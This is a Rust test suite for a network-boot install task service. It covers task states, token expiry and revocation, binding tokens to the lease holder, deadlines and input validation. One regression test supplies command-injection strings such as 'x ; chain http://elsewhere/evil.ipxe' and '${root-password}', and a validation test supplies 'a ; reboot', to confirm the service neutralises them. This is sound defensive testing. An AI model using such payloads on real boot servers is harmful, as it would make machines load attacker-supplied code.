//! Tests of [`bootlane_install::install::service::TaskService`] over the real hosts, profiles, images and
//! lease table of a test state, with an answer-template double: the state machine through
//! the public calls, tokens (wrong, another task's, expired, revoked), the lease check,
//! deadlines, reports after the end, and the loop guard in the generated script.

use std::{net::IpAddr, sync::Arc};

use time::{Duration, OffsetDateTime};

use bootlane_boot::boot::catalog::{EntryType, MenuEntry, ProfileInput};
use bootlane_core::service_error::ServiceError;
use bootlane_dhcp::dhcp::leases::Lease;
use bootlane_install::answers::{AnswerContext, AnswerFormat, AnswerSource, RenderedAnswer};
use bootlane_install::install::{service::*, ReportKind, TaskInput, TaskSource, TaskState};

/// Template 7 renders a preseed naming the task's report URL; every other id is unknown.
struct Double;

impl AnswerSource for Double {
    fn check(&self, id: u64) -> Result<AnswerFormat, ServiceError> {
        (id == 7)
            .then_some(AnswerFormat::Preseed)
            .ok_or_else(|| ServiceError::NotFound(format!("no answer template with id {id}")))
    }
    fn render(&self, id: u64, ctx: &AnswerContext) -> Result<RenderedAnswer, ServiceError> {
        self.check(id)?;
        Ok(RenderedAnswer {
            body: format!(
                "d-i preseed/late_command string wget --post-data done {}/done\n# host {}\n",
                ctx.task.report_url, ctx.host.name
            ),
            format: AnswerFormat::Preseed,
        })
    }
}

const MAC: &str = "52:54:00:aa:00:01";
const IP: &str = "10.9.0.50";

struct Lab {
    t: super::test_support::T,
    tasks: Arc<TaskService>,
    profile: u64,
}

async fn lab(lease_check: bool) -> Lab {
    let t = super::test_support::setup().await;
    let s = &t.state;
    let p = s
        .catalog
        .create_profile(ProfileInput {
            name: Some("installer".into()),
            entries: Some(vec![MenuEntry {
                label: "Install".into(),
                kind: EntryType::Linux,
                kernel: Some("di/linux".into()),
                initrds: vec!["di/initrd.gz".into()],
                cmdline: Some("vga=788".into()),
                url: None,
                script: None,
                is_default: false,
            }]),
            ..ProfileInput::default()
        })
        .await
        .unwrap();
    let tasks = TaskService::open(TaskDeps {
        store: s.store.clone(),
        events: s.events.clone(),
        hosts: s.hosts.clone(),
        catalog: s.catalog.clone(),
        images: s.os_images.clone(),
        answers: Arc::new(Double),
        leases: s.dhcp.leases(),
        config: bootlane_install::install::InstallTasksConfig {
            answer_lease_check: lease_check,
            ..Default::default()
        },
        rate: Some((5, 5)),
    })
    .unwrap();
    Lab {
        t,
        tasks,
        profile: p.id,
    }
}

async fn bind_lease(l: &Lab) {
    let leases = l.t.state.dhcp.leases();
    let mut db = leases.lock().await;
    db.bind(
        Lease {
            id: 0,
            mac: MAC.into(),
            ip: IP.parse().unwrap(),
            subnet: "10.9.0.0/24".into(),
            hostname: None,
            arch: None,
            expires_at: bootlane_dhcp::dhcp::leases::now_secs() + 600,
            declined: false,
        },
        bootlane_core::net::types::normalise_mac(MAC).unwrap(),
    )
    .await
    .unwrap();
}

fn input(l: &Lab) -> TaskInput {
    TaskInput {
        mac: Some(MAC.into()),
        source: Some(TaskSource::Profile {
            profile_id: l.profile,
            entry: None,
        }),
        template_id: Some(7),
        extra_cmdline: Some("console=ttyS0".into()),
        ..TaskInput::default()
    }
}

fn token_of(l: &Lab, id: u64) -> String {
    let table: bootlane_core::store::Table<bootlane_install::install::InstallTask> = l.t.state.store.table().unwrap();
    table.get(id).unwrap().unwrap().token
}

fn peer() -> Option<IpAddr> {
    Some(IP.parse().unwrap())
}

fn mac() -> bootlane_core::net::types::MacAddr {
    bootlane_core::net::types::normalise_mac(MAC).unwrap()
}

#[tokio::test]
async fn a_task_goes_from_pending_to_done_and_the_script_follows_it() {
    let l = lab(true).await;
    bind_lease(&l).await;
    let base = "http://10.9.0.1:8080";
    // No task: the profile decides.
    assert!(l.tasks.boot_script(mac(), peer(), base).await.unwrap().is_none());
    assert_eq!(l.tasks.by_mac(MAC).unwrap().action, "none");
    let v = l.tasks.create(input(&l)).await.unwrap();
    assert_eq!(v.state, TaskState::Pending);
    let token = token_of(&l, v.id);
    assert_eq!(token.len(), 64, "256 bits in hex");
    assert!(
        !serde_json::to_string(&v).unwrap().contains(&token),
        "the view never holds the token"
    );
    // A second active task for the machine is refused.
    let e = l.tasks.create(input(&l)).await.unwrap_err();
    assert!(
        matches!(e, ServiceError::Conflict(ref m) if m.contains("already has install task")),
        "{e}"
    );

    // Pending: the installer with the answer URL, only for the lease holder.
    let s = l.tasks.boot_script(mac(), peer(), base).await.unwrap().unwrap();
    assert!(s.starts_with("#!ipxe\n"), "{s}");
    assert!(s.contains(&format!("kernel {base}/boot/di/linux vga=788 auto=true priority=critical url={base}/api/v1/netboot/answer/{}?token={token} console=ttyS0", v.id)), "{s}");
    assert!(s.contains(&format!("initrd {base}/boot/di/initrd.gz")), "{s}");
    let other = l
        .tasks
        .boot_script(mac(), Some("10.9.0.99".parse().unwrap()), base)
        .await
        .unwrap()
        .unwrap();
    assert!(
        !other.contains(&token) && other.contains("is not the machine"),
        "{other}"
    );
    assert_eq!(l.tasks.by_mac(MAC).unwrap().action, "install");

    // The answer: installing.
    let a = l
        .tasks
        .answer(v.id, &token, peer(), "10.9.0.1:8080", base)
        .await
        .unwrap();
    assert!(
        a.body
            .contains(&format!("{base}/api/v1/netboot/report/{}/{token}/done", v.id)),
        "{}",
        a.body
    );
    let t = l.tasks.get(v.id).unwrap();
    assert_eq!(t.state, TaskState::Installing);
    assert_eq!(t.answer_fetches, 1);
    assert!(t.deadline_at.is_some() && t.token_expires_at.is_some());
    // Progress, then done: installed; the machine boots locally.
    let r = l
        .tasks
        .report(v.id, &token, ReportKind::Progress, "partitioning", peer())
        .await
        .unwrap();
    assert_eq!((r.state, r.ignored), (TaskState::Installing, false));
    let r = l
        .tasks
        .report(v.id, &token, ReportKind::Done, "", peer())
        .await
        .unwrap();
    assert_eq!(r.state, TaskState::Installed);
    let s = l.tasks.boot_script(mac(), peer(), base).await.unwrap().unwrap();
    assert!(s.contains("sanboot --no-describe --drive 0x80 || exit"), "{s}");
    assert!(!s.contains("kernel"), "{s}");
    assert_eq!(l.tasks.by_mac(MAC).unwrap().action, "local");
    // The answer is no longer served; a repeated done is ignored; booted: done.
    assert!(matches!(
        l.tasks.answer(v.id, &token, peer(), "x", base).await,
        Err(ServiceError::Forbidden(_))
    ));
    let r = l
        .tasks
        .report(v.id, &token, ReportKind::Done, "", peer())
        .await
        .unwrap();
    assert!(r.ignored);
    let r = l
        .tasks
        .report(v.id, &token, ReportKind::Booted, "", peer())
        .await
        .unwrap();
    assert_eq!(r.state, TaskState::Done);
    // The task has ended: its token works no more.
    assert!(matches!(
        l.tasks.report(v.id, &token, ReportKind::Failed, "late", peer()).await,
        Err(ServiceError::Forbidden(_))
    ));
    assert!(matches!(
        l.tasks.authorize_pull(v.id, &token, peer(), "bundle").await,
        Err(ServiceError::Forbidden(_))
    ));
    let t = l.tasks.get(v.id).unwrap();
    assert_eq!(t.state, TaskState::Done);
    assert_eq!(t.reports.len(), 3, "progress, done, booted kept; the ignored ones not");
}

#[tokio::test]
async fn refusals_are_all_alike_and_tokens_expire_and_are_revoked() {
    let l = lab(true).await;
    bind_lease(&l).await;
    let base = "http://s";
    let a = l.tasks.create(input(&l)).await.unwrap();
    let token = token_of(&l, a.id);
    let refused = refused_answer;
    let mut sub = l.t.state.events.subscribe();
    // Wrong token, unknown task, a short token, another address: the same answer.
    refused(l.tasks.answer(a.id, &"0".repeat(64), peer(), "s", base).await);
    refused(l.tasks.answer(a.id + 1000, &token, peer(), "s", base).await);
    refused(l.tasks.answer(a.id, "abc", peer(), "s", base).await);
    refused(
        l.tasks
            .answer(a.id, &token, Some("10.9.0.77".parse().unwrap()), "s", base)
            .await,
    );
    refused(l.tasks.answer(a.id, &token, None, "s", base).await);
    let e = sub.rx.recv().await.unwrap();
    assert_eq!(e.kind, "install.token.refused");
    assert!(!e.summary.contains(&token));
    // Another task's token does not open this one.
    let other = l
        .tasks
        .create(TaskInput {
            mac: Some("52:54:00:aa:00:02".into()),
            ..input(&l)
        })
        .await
        .unwrap();
    let other_token = token_of(&l, other.id);
    refused(l.tasks.answer(a.id, &other_token, peer(), "s", base).await);
    assert!(matches!(
        l.tasks.report(a.id, &other_token, ReportKind::Done, "", peer()).await,
        Err(ServiceError::Forbidden(_))
    ));
    // Started, then its token expires: no answer, no progress; a late done is taken.
    l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
    let table: bootlane_core::store::Table<bootlane_install::install::InstallTask> = l.t.state.store.table().unwrap();
    let mut raw = table.get(a.id).unwrap().unwrap();
    raw.token_expires_at = Some(OffsetDateTime::now_utc() - Duration::minutes(1));
    table.put(&raw).await.unwrap();
    refused(l.tasks.answer(a.id, &token, peer(), "s", base).await);
    assert!(matches!(
        l.tasks.report(a.id, &token, ReportKind::Progress, "x", peer()).await,
        Err(ServiceError::Forbidden(_))
    ));
    let r = l
        .tasks
        .report(a.id, &token, ReportKind::Done, "", peer())
        .await
        .unwrap();
    assert_eq!(r.state, TaskState::Installed);
    // Cancel revokes: the other task's token stops working.
    l.tasks.cancel(other.id).await.unwrap();
    assert!(matches!(
        l.tasks.answer(other.id, &other_token, peer(), "s", base).await,
        Err(ServiceError::Forbidden(_))
    ));
    // A cancelled task no longer decides the boot.
    assert!(l
        .tasks
        .boot_script(
            bootlane_core::net::types::normalise_mac("52:54:00:aa:00:02").unwrap(),
            peer(),
            base
        )
        .await
        .unwrap()
        .is_none());
    // The per-address rate: 5 per second with a burst of 5.
    let ip: Option<IpAddr> = Some("10.1.1.1".parse().unwrap());
    let allowed = (0..20).filter(|_| l.tasks.allow(ip)).count();
    assert!((5..=6).contains(&allowed), "{allowed}");
}

/// Reports and post-install pulls were accepted from any address with the token; the
/// token now works only from the machine: the lease holder, and with no lease here
/// (proxyDHCP) the address its iPXE script was first served to.
#[tokio::test]
async fn regression_reports_and_pulls_are_bound_to_the_machine() {
    let stranger: Option<IpAddr> = Some("10.9.0.77".parse().unwrap());
    let base = "http://s";
    // With a lease: only its holder.
    let l = lab(true).await;
    bind_lease(&l).await;
    let a = l.tasks.create(input(&l)).await.unwrap();
    let token = token_of(&l, a.id);
    l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
    for who in [stranger, None] {
        assert!(matches!(
            l.tasks.report(a.id, &token, ReportKind::Progress, "x", who).await,
            Err(ServiceError::Forbidden(_))
        ));
        assert!(matches!(
            l.tasks.authorize_pull(a.id, &token, who, "bundle").await,
            Err(ServiceError::Forbidden(_))
        ));
    }
    l.tasks
        .report(a.id, &token, ReportKind::Progress, "x", peer())
        .await
        .unwrap();
    l.tasks.authorize_pull(a.id, &token, peer(), "bundle").await.unwrap();

    // proxyDHCP (no lease): bound to the first address the script is served to.
    let l = lab(true).await;
    let a = l.tasks.create(input(&l)).await.unwrap();
    let token = token_of(&l, a.id);
    refused_answer(l.tasks.answer(a.id, &token, peer(), "s", base).await);
    let s = l.tasks.boot_script(mac(), peer(), base).await.unwrap().unwrap();
    assert!(s.contains(&token), "{s}");
    assert_eq!(l.tasks.get(a.id).unwrap().bound_address, peer());
    let s = l.tasks.boot_script(mac(), stranger, base).await.unwrap().unwrap();
    assert!(!s.contains(&token) && s.contains("is not the machine"), "{s}");
    refused_answer(l.tasks.answer(a.id, &token, stranger, "s", base).await);
    assert!(l.tasks.authorize_pull(a.id, &token, stranger, "bundle").await.is_err());
    l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
    l.tasks.authorize_pull(a.id, &token, peer(), "bundle").await.unwrap();
    // Cancelling ends the token.
    l.tasks.cancel(a.id).await.unwrap();
    assert!(l.tasks.authorize_pull(a.id, &token, peer(), "bundle").await.is_err());
}

/// Tokens had no idle limit: one leaked from a log stayed usable for the whole install.
#[tokio::test]
async fn regression_an_unused_token_stops_working() {
    let l = lab(true).await;
    bind_lease(&l).await;
    let base = "http://s";
    let a = l.tasks.create(input(&l)).await.unwrap();
    let token = token_of(&l, a.id);
    let table: bootlane_core::store::Table<bootlane_install::install::InstallTask> = l.t.state.store.table().unwrap();
    let mut raw = table.get(a.id).unwrap().unwrap();
    raw.token_used_at = Some(OffsetDateTime::now_utc() - Duration::hours(23));
    table.put(&raw).await.unwrap();
    // Used within the idle time: accepted, and the use counts.
    l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
    let used = table.get(a.id).unwrap().unwrap().token_used_at.unwrap();
    assert!(OffsetDateTime::now_utc() - used < Duration::minutes(1));
    let mut raw = table.get(a.id).unwrap().unwrap();
    raw.token_used_at = Some(OffsetDateTime::now_utc() - Duration::hours(25));
    table.put(&raw).await.unwrap();
    refused_answer(l.tasks.answer(a.id, &token, peer(), "s", base).await);
    for kind in [ReportKind::Progress, ReportKind::Done] {
        assert!(matches!(
            l.tasks.report(a.id, &token, kind, "", peer()).await,
            Err(ServiceError::Forbidden(_))
        ));
    }
    assert!(l.tasks.authorize_pull(a.id, &token, peer(), "bundle").await.is_err());
}

fn refused_answer(r: Result<RenderedAnswer, ServiceError>) {
    match r {
        Err(ServiceError::Forbidden(m)) => assert_eq!(m, REFUSED),
        other => panic!("not refused: {:?}", other.map(|a| a.body)),
    }
}

/// A machine's failure report must not reach the iPXE script served while the task is
/// failed: a report body ending in `x ; chain http://elsewhere/evil.ipxe` made the next
/// PXE boot run `chain` when the reason was pasted after `echo`.
#[tokio::test]
async fn regression_a_failure_report_cannot_add_ipxe_commands() {
    let l = lab(true).await;
    bind_lease(&l).await;
    let base = "http://s";
    let a = l.tasks.create(input(&l)).await.unwrap();
    for body in [
        "log line\nx ; chain http://elsewhere/evil.ipxe",
        "x && chain http://elsewhere/evil.ipxe",
        "x ${root-password} #",
        "x\0\nchain http://elsewhere/evil.ipxe",
    ] {
        let token = token_of(&l, a.id);
        l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
        let r = l
            .tasks
            .report(a.id, &token, ReportKind::Failed, body, peer())
            .await
            .unwrap();
        assert_eq!(r.state, TaskState::Failed);
        let s = l.tasks.boot_script(mac(), peer(), base).await.unwrap().unwrap();
        assert!(
            !s.contains("elsewhere") && !s.contains('$') && !s.contains(';') && !s.contains('\0'),
            "{s}"
        );
        assert!(
            s.lines()
                .all(|line| line.starts_with("#!ipxe") || line.starts_with("echo Bootlane: ") || line == "exit"),
            "{s}"
        );
        // The reason keeps the machine's words for the UI and the API.
        let t = l.tasks.get(a.id).unwrap();
        assert!(
            t.reason.as_deref().unwrap().contains(body.lines().last().unwrap()),
            "{:?}",
            t.reason
        );
        l.tasks.retry(a.id).await.unwrap();
    }
}

#[tokio::test]
async fn deadlines_failures_holds_and_retries() {
    let l = lab(false).await;
    let base = "http://s";
    let a = l.tasks.create(input(&l)).await.unwrap();
    let token = token_of(&l, a.id);
    // Without the lease check any address gets the answer.
    l.tasks.answer(a.id, &token, None, "s", base).await.unwrap();
    // Not overdue yet; then an hour later it is.
    assert_eq!(l.tasks.expire_overdue(OffsetDateTime::now_utc()).await.unwrap(), 0);
    let later = OffsetDateTime::now_utc() + Duration::minutes(61);
    assert_eq!(l.tasks.expire_overdue(later).await.unwrap(), 1);
    let t = l.tasks.get(a.id).unwrap();
    assert_eq!(t.state, TaskState::Failed);
    assert!(t.reason.as_deref().unwrap().contains("deadline"), "{:?}", t.reason);
    // Failed: held, not reinstalled.
    let s = l.tasks.boot_script(mac(), None, base).await.unwrap().unwrap();
    assert!(
        s.contains("not reinstalled until the task is retried") && !s.contains("kernel"),
        "{s}"
    );
    assert_eq!(l.tasks.by_mac(MAC).unwrap().action, "hold");
    // Retry: pending with a new token; the old one is refused.
    let r = l.tasks.retry(a.id).await.unwrap();
    assert_eq!(r.state, TaskState::Pending);
    let new = token_of(&l, a.id);
    assert_ne!(new, token);
    assert!(matches!(
        l.tasks.answer(a.id, &token, None, "s", base).await,
        Err(ServiceError::Forbidden(_))
    ));
    // The installer reports a failure with its log: only the tail is kept.
    l.tasks.answer(a.id, &new, None, "s", base).await.unwrap();
    let log = format!("{}\nE: no mirror reachable", "x".repeat(100_000));
    let r = l
        .tasks
        .report(a.id, &new, ReportKind::Failed, &log, None)
        .await
        .unwrap();
    assert_eq!(r.state, TaskState::Failed);
    let t = l.tasks.get(a.id).unwrap();
    assert!(t.reason.as_deref().unwrap().contains("no mirror reachable"));
    assert_eq!(
        t.reports.last().unwrap().message.len(),
        bootlane_install::install::MAX_REPORT_BYTES
    );
    // booted before done is a 409; bad inputs are 400s naming the field.
    l.tasks.retry(a.id).await.unwrap();
    assert!(matches!(
        l.tasks
            .report(a.id, &token_of(&l, a.id), ReportKind::Booted, "", None)
            .await,
        Err(ServiceError::Conflict(_))
    ));
    for (bad, field) in [
        (
            TaskInput {
                template_id: Some(9),
                ..input(&l)
            },
            "'template_id'",
        ),
        (
            TaskInput {
                mac: Some("zz".into()),
                ..input(&l)
            },
            "'mac'",
        ),
        (TaskInput { mac: None, ..input(&l) }, "'host_id' or 'mac'"),
        (
            TaskInput {
                source: Some(TaskSource::Profile {
                    profile_id: 999_999,
                    entry: None,
                }),
                ..input(&l)
            },
            "'source.profile_id'",
        ),
        (
            TaskInput {
                source: Some(TaskSource::Image { image_id: 999_999 }),
                ..input(&l)
            },
            "'source.image_id'",
        ),
        (
            TaskInput {
                extra_cmdline: Some("a ; reboot".into()),
                ..input(&l)
            },
            "'extra_cmdline'",
        ),
    ] {
        match l.tasks.create(bad).await {
            Err(ServiceError::Invalid(m)) => assert!(m.contains(field), "{m}"),
            other => panic!("{field}: {:?}", other.map(|v| v.id)),
        }
    }
    // An installing task is not deleted; a pending one is.
    l.tasks
        .answer(a.id, &token_of(&l, a.id), None, "s", base)
        .await
        .unwrap();
    assert!(matches!(l.tasks.delete(a.id).await, Err(ServiceError::Conflict(_))));
    l.tasks.cancel(a.id).await.unwrap();
    assert!(l.tasks.delete(a.id).await.is_ok());
}
